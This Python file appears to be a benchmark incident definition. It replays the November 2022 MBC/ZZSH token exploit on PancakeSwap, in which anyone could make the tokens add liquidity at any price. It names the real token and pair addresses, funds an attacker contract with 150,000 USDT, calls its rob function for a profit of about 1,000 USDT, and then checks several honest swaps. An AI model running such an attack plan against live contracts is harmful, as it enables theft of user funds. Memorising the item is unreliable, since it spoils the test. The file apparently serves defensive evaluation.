"""MBC and ZZSH, November 2022: anybody could have the tokens add their own dollars to their pairs, at any price."""

from benches.quality.incidents.pancake import ROUTER, USDT, holds, swap
from benches.quality.plan import ETHER, Incident, Plan, call, gains

MBC = "0x4e87880a72f6896e7e0a635a5838ffc89b13bd17"
ZZSH = "0xee04a3f9795897fd74b7f04bb299ba25521606e6"
MBC_PAIR = "0x5b1bf836fba1836ca7ffce26f155c75dbfa4adf1"
ZZSH_PAIR = "0x33cca0e0cff617a2aef1397113e779e42a06a74a"


def build(plan: Plan) -> None:
    attacker = plan.actor("attacker")
    liquifier = plan.deploy(attacker, "MidwayLiquifier")
    lent = 150_000 * ETHER
    plan.give(USDT, liquifier, lent, slot=1)
    plan.attack(
        plan.transaction(
            attacker,
            liquifier,
            call("rob(address[],address[],address)", [MBC, ZZSH], [MBC_PAIR, ZZSH_PAIR], USDT),
            gas=8_000_000,
        ),
        changes=[gains(USDT, attacker, lent + 1_000 * ETHER)],
    )

    buyer, seller = plan.actor("buyer"), plan.actor("seller")
    holds(plan, USDT, buyer.address, 300, slot=1)
    plan.honest(
        "MBC bought for 300 USDT",
        plan.transaction(buyer, ROUTER, swap(300, [USDT, MBC], buyer.address)),
        changes=[gains(MBC, buyer, 1)],
    )
    holds(plan, MBC, seller.address, 200, slot=1)
    plan.honest(
        "200 MBC sold",
        plan.transaction(seller, ROUTER, swap(200, [MBC, USDT], seller.address)),
        changes=[gains(USDT, seller, 1)],
    )
    wallet = plan.install("Wallet")
    holds(plan, USDT, wallet, 400, slot=1)
    plan.honest(
        "a wallet buys ZZSH for 400 USDT",
        plan.through(
            wallet,
            plan.actor("wallet's holder"),
            (ROUTER, 0, swap(400, [USDT, ZZSH], wallet)),
        ),
        changes=[gains(ZZSH, wallet, 1)],
        by="contract",
    )


MBC_TOKEN = Incident(
    "MBCToken",
    {"MBC": MBC, "ZZSH": ZZSH, "MBC pair": MBC_PAIR, "ZZSH pair": ZZSH_PAIR},
    build,
    note="the attacker has what it would borrow for the transaction",
)
